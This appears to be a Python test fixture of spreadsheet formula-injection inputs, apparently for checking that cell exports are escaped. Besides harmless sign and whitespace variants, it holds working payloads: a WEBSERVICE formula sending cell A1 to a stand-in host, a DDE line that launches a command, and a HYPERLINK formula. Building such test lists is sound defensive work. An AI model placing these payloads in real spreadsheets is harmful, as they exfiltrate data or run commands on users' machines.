"""Cells that a spreadsheet might run."""

SIGNS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
BEFORE = ["", " ", "\u3000", "\u00a0"]
HOSTILE = [before + sign + "SUM(1,1)的说法" for sign in SIGNS for before in BEFORE] + [
    "=1+1",
    "=1+1的说法",
    "-2+3",
    "+1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://x.example","点")',
    '=WEBSERVICE("http://x.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    '=DDE("soffice";"x";"y")',
    "@SUM(A1:A2)",
    '","=1+1',
    '"=1+1"',
    "第一行\n=1+1",
    "\n=1+1",
    "'=1+1",
    "{=1+1}",
]
